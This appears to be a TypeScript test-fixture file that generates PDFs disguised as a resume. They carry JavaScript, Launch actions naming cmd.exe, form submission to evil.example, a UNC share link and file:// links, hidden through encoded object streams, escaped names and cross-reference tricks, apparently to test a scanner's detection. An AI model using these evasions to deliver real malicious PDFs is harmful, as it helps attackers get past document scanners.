import { deflateSync } from 'node:zlib';
import { type PdfObject, pdfFrom, pdfOf } from '../resume-files.ts';
import type { MaliciousFile } from './malicious-file.ts';

const RESUME = 'Jordan Roy\nOffice clerk';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** Number that pdfOf gives to the first of the other objects. */
const OTHER = 6;

/** A PDF with further objects that the catalogue refers to. */
const pdfWith = (catalogue: string, ...others: PdfObject[]) => pdfOf(RESUME, { catalogue, others });

/** A PDF whose page has annotations. */
const annotated = (...annotations: PdfObject[]) =>
  pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    ...annotations,
  ]);

const link = (action: string) =>
  annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] ${action} >>`);

/** Appends a cross-reference entry for one object, which overrides its own number. */
function withXrefEntry(file: Buffer, id: number, row: number[]): Buffer {
  const before = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(file.toString('latin1'))?.[1];
  const table = `/Type /XRef /Size 99 /Root 1 0 R /Prev ${before} /Index [${id} 1] /W [1 2 1]`;
  const text = `98 0 obj\n<< ${table} /Filter /ASCIIHexDecode /Length 9 >>\nstream\n${Buffer.from(row).toString('hex')}>\nendstream\nendobj\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.concat([file, Buffer.from(text)]);
}

/** Makes object `id` begin at a text, which may be within the head of another object. */
function objectAt(file: Buffer, id: number, text: string): Buffer {
  const offset = file.indexOf(text) + text.length - `${id}`.length;
  return withXrefEntry(file, id, [1, offset >> 8, offset & 255, 0]);
}

/** A PDF with object 7 packed into object stream 6, and the cross-reference entry for it. */
function packedPdf(stream: Buffer, filter: string, dictionary = '/Type /ObjStm'): Buffer {
  const objects = { dictionary: `${dictionary} /N 1 /First 4 /Filter ${filter}`, stream };
  return withXrefEntry(pdfWith('/OpenAction 7 0 R', objects), 7, [2, 0, OTHER, 0]);
}

const PACKED = Buffer.from(`7 0 ${SCRIPT}`);
const hexOf = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);

function base85Of(bytes: Buffer): Buffer {
  let digits = '';
  for (let i = 0; i < bytes.length; i += 4) {
    const group = Buffer.concat([bytes.subarray(i, i + 4), Buffer.alloc(4)]).readUInt32BE(0);
    const all = [85 ** 4, 85 ** 3, 85 ** 2, 85, 1].map((power) => Math.floor(group / power) % 85);
    const length = Math.min(4, bytes.length - i) + 1;
    digits += String.fromCharCode(...all.slice(0, length).map((digit) => digit + 33));
  }
  return Buffer.from(`${digits}~>`);
}

/** LZW with literal 9-bit codes only; the table is cleared before it grows to 10 bits. */
function lzwOf(bytes: Buffer): Buffer {
  const codes = [...bytes].flatMap((byte, index) => (index % 200 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, '0')).join('');
  return Buffer.from(
    (bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)),
  );
}

/** Harmless when read as it is; a script where "7" is read as the run length of 56 bytes. */
const OF_TWO_READINGS = `77 0 (${SCRIPT.padEnd(51)})`;

/** A link that launches a program; its action's name is object 6. */
const LAUNCHED = '<< /Subtype /Link /Rect [0 0 99 99] /A << /S 6 0 R /F (cmd.exe) >> >>';
const NOTHING: string[] = Array.from({ length: 11 }, () => 'null');

/** Appends a second version of an object, as an incremental update does. */
function withUpdate(file: Buffer, objects: string, trailer = ''): Buffer {
  const before = /startxref\s+(\d+)/.exec(file.toString('latin1'))?.[1];
  const start = file.length + objects.length;
  return Buffer.concat([
    file,
    Buffer.from(
      `${objects}xref\n0 0\ntrailer\n<< /Size 20 /Root 1 0 R /Prev ${before} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  ]);
}

/** A PDF with an object inside a page's stream, reachable only by a table of offsets. */
const withHiddenObject = (head: string, filter = '') =>
  pdfWith('/OpenAction 9 0 R', { dictionary: filter, stream: `${head} ${SCRIPT}\nendobj` });

const ACTIVE: Record<string, () => Buffer> = {
  'js-comment.pdf': () =>
    pdfWith('/OpenAction 6 0 R', '<< % (\n/S /JavaScript /JS 7 0 R\n% )\n>>', {
      dictionary: '',
      stream: 'app.alert(1)',
    }),
  'launch-comment.pdf': () =>
    pdfWith('/OpenAction 6 0 R', '<< % (\n/S /Launch /F <636d642e657865>\n% )\n>>'),
  'js-in-a-comment-line.pdf': () => pdfWith(`/OpenAction % \\(\n6 0 R`, `% (\n${SCRIPT}`),
  'packed-in-hex.pdf': () => packedPdf(hexOf(PACKED), '/ASCIIHexDecode'),
  'packed-in-hex-and-flate.pdf': () =>
    packedPdf(hexOf(deflateSync(PACKED)), '[/ASCIIHexDecode /FlateDecode]'),
  'packed-in-base85.pdf': () => packedPdf(base85Of(PACKED), '/ASCII85Decode'),
  'packed-in-base85-and-flate.pdf': () => packedPdf(base85Of(deflateSync(PACKED)), '[/A85 /Fl]'),
  'packed-in-lzw.pdf': () => packedPdf(lzwOf(PACKED), '/LZWDecode'),
  'packed-in-runs.pdf': () =>
    packedPdf(Buffer.concat([Buffer.from([PACKED.length - 1]), PACKED]), '/RunLengthDecode'),
  'packed-under-escaped-names.pdf': () => packedPdf(deflateSync(PACKED), '/Fl#61teDecode'),
  'packed-without-type.pdf': () => packedPdf(hexOf(PACKED), '/ASCIIHexDecode', ''),
  'packed-behind-a-long-dictionary.pdf': () =>
    packedPdf(deflateSync(PACKED), '/FlateDecode', `/Type /ObjStm /Note (${' '.repeat(5_000)})`),
  'escaped-names.pdf': () => pdfWith('/Open#41ction << /#53 /#4a#61va#53cript /#4A#53 (x) >>'),
  'annotation.pdf': () => link(`/A ${SCRIPT}`),
  'annotation-aa.pdf': () => link('/AA << /E << /S /Named /N /NextPage >> >>'),
  'page-aa.pdf': () =>
    pdfOf(RESUME, { others: ['<< /Type /Page /AA << /O << /S /GoTo /D [5 0 R /Fit] >> >> >>'] }),
  'outline.pdf': () =>
    pdfWith('/Outlines 6 0 R', '<< /First 7 0 R /Last 7 0 R >>', `<< /Title (x) /A ${SCRIPT} >>`),
  'next-action.pdf': () =>
    link('/A << /S /URI /URI (https://people.example) /Next [<< /S /ImportData /F (x) >>] >>'),
  'names.pdf': () => pdfWith(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`),
  'embedded-file.pdf': () => pdfWith('', { dictionary: '/Type /EmbeddedFile', stream: 'MZ' }),
  'attached-file.pdf': () => annotated('<< /Subtype /FileAttachment /Rect [0 0 9 9] >>'),
  'rich-media.pdf': () => annotated('<< /Subtype /RichMedia /Rect [0 0 9 9] >>'),
  'rendition.pdf': () => link('/A << /S /Rendition /OP 0 >>'),
  'unknown-action.pdf': () => link('/A << /S /Surprise >>'),
  'unknown-annotation.pdf': () => annotated('<< /Subtype /Surprise /Rect [0 0 9 9] >>'),
  'xfa.pdf': () => pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', '<< >>'),
  'other-file.pdf': () => link('/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  'sent-form.pdf': () => link('/A << /S /SubmitForm /F (https://evil.example) >>'),
  'print-on-opening.pdf': () => pdfWith('/OpenAction << /S /Named /N /Print >>'),
  'script-address.pdf': () => link('/A << /S /URI /URI (java\\\nscript:app.alert\\(1\\)) >>'),
  'replaced-action.pdf': () =>
    withUpdate(pdfWith('/OpenAction 6 0 R', SCRIPT), `${OTHER} 0 obj\nnull\nendobj\n`),
  'appended-action.pdf': () =>
    withUpdate(pdfWith('/OpenAction 6 0 R', 'null'), `${OTHER} 0 obj% (\n${SCRIPT}\nendobj\n`),
  'of-two-tables.pdf': () =>
    withUpdate(
      pdfWith('/OpenAction 7 0 R', {
        dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /AHx',
        stream: hexOf(PACKED),
      }),
      '',
      '/XRefStm 9',
    ),
  'launch-under-part-of-a-number.pdf': () =>
    objectAt(annotated(LAUNCHED, 'null', '/URI', ...NOTHING.slice(2), '/Launch'), 6, '\n16'),
  'launch-under-another-number.pdf': () => {
    const objects = { dictionary: '/Type /ObjStm /N 1 /First 5', stream: '77 0 /Launch' };
    return withXrefEntry(annotated(LAUNCHED, objects), 6, [2, 0, 5, 0]);
  },
  'launch-under-a-commented-number.pdf': () =>
    objectAt(withUpdate(annotated(LAUNCHED), '8%6\n0 obj\n/Launch\nendobj\n'), 6, '8%6'),
  'launch-under-a-missing-number.pdf': () => annotated(LAUNCHED),
  'two-keys.pdf': () => link(`/A << /S /URI /URI (https://people.example) >> /A ${SCRIPT}`),
};

const BROKEN: Record<string, () => Buffer> = {
  'packed-under-a-packed-filter.pdf': () => {
    const filter = { dictionary: '/N 1 /First 4', stream: '9 0 /RunLengthDecode' };
    const objects = { dictionary: '/N 1 /First 5 /Filter [9 0 R]', stream: OF_TWO_READINGS };
    const file = pdfWith('/OpenAction 7 0 R', objects, 'null', filter);
    return withXrefEntry(withXrefEntry(file, 7, [2, 0, OTHER, 0]), 9, [2, 0, 8, 0]);
  },
  // "2[h" starts "7 %", before a 'z' that is not a group of its own.
  'packed-in-shifted-base85.pdf': () =>
    packedPdf(Buffer.from(`${base85Of(Buffer.from('7 0 ')).subarray(0, 5)}2[hz~>`), '/A85'),
  'packed-under-unknown-filter.pdf': () => packedPdf(PACKED, '/BrotliDecode'),
  'packed-under-reference.pdf': () =>
    pdfWith(
      '/OpenAction 7 0 R',
      { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 8 0 R', stream: hexOf(PACKED) },
      'null',
      '/ASCIIHexDecode',
    ),
  'packed-with-predictor.pdf': () =>
    pdfWith('/OpenAction 7 0 R', {
      dictionary:
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      stream: deflateSync(PACKED),
    }),
  'object-in-a-stream.pdf': () => withHiddenObject('9 0 obj'),
  'object-in-a-stream-oddly.pdf': () => withHiddenObject('9 +0%\nobj'),
  'object-in-a-comment.pdf': () =>
    withUpdate(pdfWith('/OpenAction 9 0 R'), `% 9 0 obj ${SCRIPT} endobj\n`),
  'object-in-a-text.pdf': () => pdfWith('/OpenAction 9 0 R /Note (\n9 0 obj << >> endobj)'),
  'trailer-in-a-stream.pdf': () =>
    pdfWith('', { dictionary: '', stream: 'trailer << /Root 9 0 R >>' }),
  'between-objects.pdf': () => withUpdate(pdfOf(RESUME), `${SCRIPT}\n`),
};

const withCode = (files: Record<string, () => Buffer>, code: MaliciousFile['code']) =>
  Object.fromEntries(Object.entries(files).map(([name, make]) => [name, { code, make }]));

/** PDFs with active content in places or disguises that a search for names misses. */
export const ACTIVE_PDFS: Record<string, MaliciousFile> = {
  ...withCode(ACTIVE, 'RESUME_ACTIVE_CONTENT'),
  ...withCode(BROKEN, 'RESUME_BROKEN'),
  'link-to-a-file.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => link('/A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>'),
  },
  'link-under-another-number.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => {
      const action = '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 6 0 R >> >>';
      const others = ['null', '(https://people.example)', ...NOTHING.slice(2)];
      return objectAt(annotated(action, ...others, '(file:///C:/cmd.exe)'), 6, '\n16');
    },
  },
  'link-to-a-share.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => link('/A << /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'),
  },
  'stream-from-elsewhere.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => pdfWith('', { dictionary: '/F (https://evil.example/x)', stream: '' }),
  },
};
